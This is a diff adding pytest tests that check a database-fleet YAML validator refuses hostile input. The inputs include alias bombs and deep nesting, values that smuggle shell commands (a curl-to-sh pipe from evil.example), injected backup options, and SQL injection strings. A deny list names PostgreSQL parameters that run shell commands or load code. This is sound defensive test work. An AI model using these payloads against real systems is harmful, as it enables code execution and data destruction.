@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -75,7 +76,7 @@ BAD_INPUTS = [
     ("open to the world", ("    databases: [app]\n", "    databases: [app]\n    allowed_clients: [0.0.0.0/0]\n"),
      "clusters.0.allowed_clients", "every address"),
     ("managed parameter", ("      max_connections: 100\n", "      max_connections: 100\n      port: 6000\n"),
-     "clusters.0.parameters", "managed by dbfleet"),
+     "clusters.0.parameters.port", "managed by dbfleet"),
     ("min replicas to write above replicas", ("min_replicas_to_write: 1", "min_replicas_to_write: 3"),
      "clusters.2.min_replicas_to_write", "never accept a write"),
     ("canary not a table", ("canary: public.canary}", "canary: 'public.canary; drop table x'}"),
@@ -101,6 +102,12 @@ BAD_INPUTS = [
     ("redis tls not implemented", ("min_replicas_to_write: 1", "min_replicas_to_write: 1\n    tls: {enabled: true}"),
      "clusters.2.tls.enabled", "not implemented yet"),
     ("wrong api version", ("apiVersion: dbfleet/v1", "apiVersion: dbfleet/v9"), "apiVersion", "dbfleet/v1"),
+    ("metrics password over plain http", ("    tls: true            #", "    tls: false           #"),
+     "monitoring.operator_metrics.basic_auth", "needs tls: true"),
+    ("metrics user with a colon", ("    basic_auth: true     #", "    basic_auth: true\n    username: 'prom:x'  #"),
+     "monitoring.operator_metrics.username", "does not match"),
+    ("metrics tls not a boolean", ("    tls: true            #", "    tls: 'yes'           #"),
+     "monitoring.operator_metrics.tls", "expected true or false"),
 ]
 
 
@@ -181,3 +188,279 @@ def test_etcd_and_haproxy_hosts_of_their_own_are_machines_of_the_cluster() -> No
     pg = parse_fleet(text).cluster("pg-main")
     assert [h.name for h in pg.all_hosts()] == ["pg-1", "pg-2", "pg-3"]
     assert [h.name for h in pg.machines()] == ["pg-1", "pg-2", "pg-3", "etcd-1", "etcd-2", "etcd-3", "proxy-1"]
+
+
+# --------------------------------------------------------------------------- hostile YAML
+
+PG_UNUSED = "      unused: {report: true, drop: false, min_stats_age_days: 7}\n"
+SHARDED = "      - {database: app, collection: events, key: {user_id: hashed}}\n"
+
+
+def _with_zones(zones: str) -> str:
+    """The example with `zones` (YAML flow text) on its sharded collection: typed Any, so the data goes on as is."""
+    assert SHARDED in EXAMPLE
+    return EXAMPLE.replace(SHARDED, "      - {database: app, collection: events, key: {user_id: hashed}, zones: {"
+                           + zones + "}}\n")
+
+
+def _laughs(levels: int, width: int) -> str:
+    """A billion-laughs spec: each level is `width` aliases of the one below."""
+    entries = [f"l0: &l0 [{', '.join(['lol'] * width)}]"]
+    entries += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * width)}]" for i in range(1, levels)]
+    return _with_zones(", ".join(entries))
+
+
+def test_aliases_that_expand_past_the_bound_are_refused_before_they_reach_the_inventory() -> None:
+    text = _laughs(levels=6, width=8)  # under 1 KiB of YAML, 299,593 nodes once expanded
+    assert len(text) - len(EXAMPLE) < 1024
+    err = _error(text)
+    assert "expand" in str(err) and "100000" in str(err), str(err)
+    assert all(p.line is not None for p in err.problems)
+
+
+def test_a_billion_laughs_is_refused_quickly() -> None:
+    import time
+
+    started = time.monotonic()
+    err = _error(_laughs(levels=9, width=9))
+    assert "expand" in str(err) and time.monotonic() - started < 5
+
+
+def test_many_alias_uses_are_refused() -> None:
+    assert "more than 100 aliases" in str(_error(_with_zones("eu: [&x lol, " + ", ".join(["*x"] * 101) + "]")))
+
+
+def test_a_5000_digit_integer_is_a_located_spec_error_not_a_value_error() -> None:
+    text = EXAMPLE.replace("replicas: 2\n    databases", "replicas: " + "9" * 5000 + "\n    databases", 1)
+    err = _error(text)
+    assert any(p.path == "clusters.0.replicas" and "5000 digits" in p.message for p in err.problems), str(err)
+
+
+def test_20000_nested_brackets_are_a_located_spec_error_not_a_recursion_error() -> None:
+    err = _error("apiVersion: dbfleet/v1\nclusters: " + "[" * 20000 + "\n")
+    assert "nested deeper than 64" in str(err) and err.problems[0].line == 2
+    assert err.problems[0].path.startswith("clusters")
+
+
+def test_deep_nesting_through_aliases_is_refused() -> None:
+    chain = ["d0: &d0 " + "[" * 60 + "x" + "]" * 60]
+    chain += [f"d{i}: &d{i} " + "[" * 60 + f"*d{i - 1}" + "]" * 60 for i in range(1, 30)]
+    assert "nested deeper than 64" in str(_error(_with_zones(", ".join(chain))))
+
+
+def test_an_alias_to_its_own_ancestor_is_refused() -> None:
+    assert "refers to itself" in str(_error(_with_zones("eu: &loop [*loop]")))
+
+
+def test_duplicate_keys_are_refused_naming_both_lines() -> None:
+    block = ("      unused:\n        report: true\n        drop: false\n        min_stats_age_days: 7\n"
+             "        drop: true\n")
+    assert PG_UNUSED in EXAMPLE
+    text = EXAMPLE.replace(PG_UNUSED, block, 1)
+    lines = text.splitlines()
+    first = next(i for i, line in enumerate(lines, 1) if line == "        drop: false")
+    err = _error(text)
+    (problem,) = err.problems
+    assert problem.path == "clusters.0.indexes.unused.drop" and problem.line == first + 2
+    assert f"line {first}" in problem.message and f"line {first + 2}" in problem.message
+
+
+def test_an_infinite_alert_threshold_is_refused() -> None:
+    err = _error(EXAMPLE.replace("replica_lag_seconds: 30", "replica_lag_seconds: .inf", 1))
+    assert any(p.path == "clusters.0.monitoring.alerts.replica_lag_seconds" and "finite" in p.message
+               for p in err.problems), str(err)
+    assert "finite" in str(_error(EXAMPLE.replace("cache_hit_ratio_min: 0.9", "cache_hit_ratio_min: .nan", 1)))
+    assert "finite" in str(_error(EXAMPLE.replace("replica_lag_seconds: 30", "replica_lag_seconds: 1.0e+999", 1)))
+
+
+def test_a_spec_over_one_mib_is_refused(tmp_path: Path) -> None:
+    big = EXAMPLE + "# " + "x" * (1 << 20) + "\n"
+    assert "at most 1048576 bytes" in str(_error(big))
+    path = tmp_path / "fleet.yaml"
+    path.write_text(big)
+    with pytest.raises(SpecError, match="at most 1048576 bytes"):
+        load_fleet(path)
+
+
+def test_a_cron_schedule_that_can_never_fire_is_refused() -> None:
+    err = _error(EXAMPLE.replace('full: "0 2 * * 0"', 'full: "0 0 31 2 *"', 1))
+    assert any(p.path == "clusters.0.backup.schedule.full" and "never" in p.message for p in err.problems), str(err)
+    err = _error(EXAMPLE.replace('drill: {schedule: "30 4 * * *"', 'drill: {schedule: "0 0 30 2 *"', 1))
+    assert any(p.path == "clusters.0.backup.drill.schedule" and "never" in p.message for p in err.problems), str(err)
+
+
+# --------------------------------------------------------------------------- PostgreSQL parameters
+
+PARAMS = "      max_connections: 100\n"
+
+
+def _with_parameter(line: str) -> str:
+    assert PARAMS in EXAMPLE
+    return EXAMPLE.replace(PARAMS, PARAMS + f"      {line}\n", 1)
+
+
+@pytest.mark.parametrize("value", ['"x\\\\\'\\nssl = off #"', '"a\\rb"', '"a\\tb"', '"a\\u0000b"', '"a\\u2028b"'])
+def test_a_control_character_in_a_parameter_value_is_refused(value: str) -> None:
+    err = _error(_with_parameter(f"work_mem: {value}"))
+    (problem,) = err.problems
+    assert problem.path == "clusters.0.parameters.work_mem" and "control character" in problem.message, str(err)
+    assert problem.line is not None
+
+
+@pytest.mark.parametrize(("name", "why"), [
+    ("archive_command", "managed by dbfleet"),
+    ("restore_command", "runs a shell command"),
+    ("archive_cleanup_command", "runs a shell command"),
+    ("recovery_end_command", "runs a shell command"),
+    ("ssl_passphrase_command", "runs a shell command"),
+    ("archive_library", "loads code"),
+    ("shared_preload_libraries", "loads code"),
+    ("local_preload_libraries", "loads code"),
+    ("session_preload_libraries", "loads code"),
+    ("dynamic_library_path", "loads code"),
+    ("jit_provider", "loads code"),
+    ("data_directory", "moves a file dbfleet manages"),
+    ("config_file", "moves a file dbfleet manages"),
+    ("hba_file", "moves a file dbfleet manages"),
+    ("ident_file", "moves a file dbfleet manages"),
+    ("external_pid_file", "writes a file"),
+    ("log_directory", "writes a file"),
+    ("log_filename", "writes a file"),
+    ("unix_socket_directories", "moves a file dbfleet manages"),
+    ("ssl_cert_file", "moves a file dbfleet manages"),
+    ("ssl_ciphers", "TLS"),
+    ("ssl_min_protocol_version", "TLS"),
+    ("include", "reads another configuration file"),
+    ("include_dir", "reads another configuration file"),
+    ("include_if_exists", "reads another configuration file"),
+    ("password_encryption", "managed by dbfleet"),
+    ("synchronous_standby_names", "managed by dbfleet"),
+    ("primary_slot_name", "managed by dbfleet"),
+])
+def test_parameters_that_run_commands_load_code_or_move_files_are_refused(name: str, why: str) -> None:
+    err = _error(_with_parameter(f"{name}: x"))
+    (problem,) = err.problems
+    assert problem.path == f"clusters.0.parameters.{name}" and why in problem.message, str(err)
+    lines = _with_parameter(f"{name}: x").splitlines()
+    line = next(i for i, text in enumerate(lines, 1) if text.strip() == f"{name}: x")
+    assert problem.line == line
+
+
+def test_tunable_parameters_are_still_accepted() -> None:
+    fleet = parse_fleet(_with_parameter("work_mem: \"it's 4MB\"\n      pg_stat_statements.max: 10000\n"
+                                        "      log_min_duration_statement: 250\n      jit: false"))
+    assert fleet.cluster("pg-main").parameters["work_mem"] == "it's 4MB"
+
+
+# --------------------------------------------------------------------------- backup targets and paths
+
+PG_TARGET = "{kind: local, path: /var/lib/dbfleet/backups}"
+
+
+def _with_target(target: str) -> str:
+    assert PG_TARGET in EXAMPLE
+    return EXAMPLE.replace(PG_TARGET, target, 1)
+
+
+def _target_problem(target: str, key: str) -> str:
+    err = _error(_with_target(target))
+    problems = [p for p in err.problems if p.path == f"clusters.0.backup.target.{key}"]
+    assert problems and all(p.line is not None for p in problems), str(err)
+    return " ".join(p.message for p in problems)
+
+
+@pytest.mark.parametrize("region", ['"us-east-1\\nrepo1-s3-verify-tls=n"', "moon-base-1", "us-east", "US-EAST-1",
+                                    '"us-east-1 "'])
+def test_a_backup_region_that_is_not_an_aws_region_is_refused(region: str) -> None:
+    assert "AWS region" in _target_problem(f"{{kind: s3, bucket: acme-bk, region: {region}}}", "region")
+
+
+@pytest.mark.parametrize("region", ["us-east-1", "eu-central-1", "ap-southeast-2", "us-gov-west-1"])
+def test_aws_regions_are_accepted(region: str) -> None:
+    fleet = parse_fleet(_with_target(f"{{kind: s3, bucket: acme-bk, region: {region}}}").replace(
+        "region: us-east-1", f"region: {region}", 1))
+    assert fleet.cluster("pg-main").backup.target.region == region and fleet.fleet.region == region
+
+
+@pytest.mark.parametrize("path", ['"/backups\\nrepo1-host=evil.example"', "/var/lib/../../etc", "/var//backups",
+                                  "backups", "/", "/var/./backups", '"/var/back\\tups"'])
+def test_a_local_backup_path_must_be_a_normalised_absolute_path(path: str) -> None:
+    assert "path" in _target_problem(f"{{kind: local, path: {path}}}", "path")
+
+
+@pytest.mark.parametrize("bucket", ["a..b", "192.168.1.1", "xn--bucket", "ab", "a-.b", "bk-s3alias", "UPPER-case",
+                                    "-dash", "b" * 64, '"bk\\nrepo1-host=x"'])
+def test_s3_bucket_names_follow_s3s_rules(bucket: str) -> None:
+    assert "bucket" in _target_problem(f"{{kind: s3, bucket: {bucket}}}", "bucket")
+
+
+@pytest.mark.parametrize("prefix", ["a/../b", "a//b", "./a", "..", '"a\\nb"'])
+def test_an_s3_prefix_is_a_normalised_relative_key_prefix(prefix: str) -> None:
+    assert "prefix" in _target_problem(f"{{kind: s3, bucket: acme-bk, prefix: {prefix}}}", "prefix")
+
+
+def test_an_s3_prefix_is_kept_relative() -> None:
+    fleet = parse_fleet(_with_target("{kind: s3, bucket: acme-bk, prefix: /pg/main/}"))
+    assert fleet.cluster("pg-main").backup.target.prefix == "pg/main"
+
+
+@pytest.mark.parametrize("endpoint", ["http://minio:9000", "ftp://minio", "https://user:secret@minio:9000",
+                                      "https://minio:9000/bucket?x=1", '"https://minio\\nrepo1-host=x"', "https://",
+                                      "https://minio:99999", "minio:9000"])
+def test_an_s3_endpoint_must_be_https(endpoint: str) -> None:
+    assert "https" in _target_problem(f"{{kind: s3, bucket: acme-bk, endpoint: {endpoint!r}}}", "endpoint")
+
+
+@pytest.mark.parametrize("endpoint", ["https://127.0.0.1:9443", "https://s3.example.internal", "https://[::1]:9000/"])
+def test_https_endpoints_are_accepted(endpoint: str) -> None:
+    fleet = parse_fleet(_with_target(f"{{kind: s3, bucket: acme-bk, endpoint: {endpoint!r}}}"))
+    assert fleet.cluster("pg-main").backup.target.endpoint == endpoint
+
+
+@pytest.mark.parametrize("path", ["ca.crt", "/etc/../ca.crt", '"/etc/ca.crt\\n"', "/etc//ca.crt"])
+def test_tls_ca_paths_are_normalised_absolute_paths(path: str) -> None:
+    for key in ("ca_cert", "ca_key"):
+        text = EXAMPLE.replace("    databases: [app]\n", f"    databases: [app]\n    tls: {{{key}: {path}}}\n", 1)
+        err = _error(text)
+        assert any(p.path == f"clusters.0.tls.{key}" and "path" in p.message for p in err.problems), str(err)
+
+
+@pytest.mark.parametrize("region", ['"us-east-1; curl -s evil.example | sh"', '"us-east-1\\"; touch /tmp/x; \\""',
+                                    "mars-1"])
+def test_a_fleet_region_that_is_not_an_aws_region_is_refused(region: str) -> None:
+    err = _error(EXAMPLE.replace("  region: us-east-1\n", f"  region: {region}\n", 1))
+    assert any(p.path == "fleet.region" and "AWS region" in p.message for p in err.problems), str(err)
+
+
+# --------------------------------------------------------------------------- declared index SQL
+
+EMAIL_INDEX = 'columns: ["lower(email)"]'
+OPEN_INDEX = "where: \"status = 'open'\""
+
+
+@pytest.mark.parametrize("column", ["id) WITH (fillfactor = 10) TABLESPACE pg_default --", "email), (id",
+                                    "email) INCLUDE (id", "email); DROP TABLE users; --", "email) WHERE (true",
+                                    "email /* x */", "'email", "email, id", ""])
+def test_an_index_column_that_is_not_one_sql_element_is_refused(column: str) -> None:
+    assert EMAIL_INDEX in EXAMPLE
+    err = _error(EXAMPLE.replace(EMAIL_INDEX, f"columns: [{json.dumps(column)}]", 1))
+    (problem,) = err.problems
+    assert problem.path == "clusters.0.indexes.declared.0.columns.0" and problem.line is not None, str(err)
+
+
+@pytest.mark.parametrize("where", ["status = 'open'; DROP TABLE orders", "true) TABLESPACE pg_default --",
+                                   "status = 'open' -- and more", "status = 'open') WITH (fillfactor = 10"])
+def test_an_index_predicate_that_is_not_one_expression_is_refused(where: str) -> None:
+    assert OPEN_INDEX in EXAMPLE
+    err = _error(EXAMPLE.replace(OPEN_INDEX, f"where: {json.dumps(where)}", 1))
+    (problem,) = err.problems
+    assert problem.path == "clusters.0.indexes.declared.2.where" and problem.line is not None, str(err)
+
+
+def test_index_expressions_postgresql_takes_are_accepted() -> None:
+    columns = ('["lower(email)", "created_at DESC NULLS LAST", "email text_pattern_ops", "(a + b)", '
+               '"name COLLATE \\"C\\""]')
+    fleet = parse_fleet(EXAMPLE.replace(EMAIL_INDEX, f"columns: {columns}", 1).replace(
+        OPEN_INDEX, "where: \"status IN ('open', 'held') AND deleted_at IS NULL\"", 1))
+    declared = fleet.cluster("pg-main").indexes.declared
+    assert declared[0].columns[-1] == 'name COLLATE "C"' and declared[2].where.startswith("status IN")
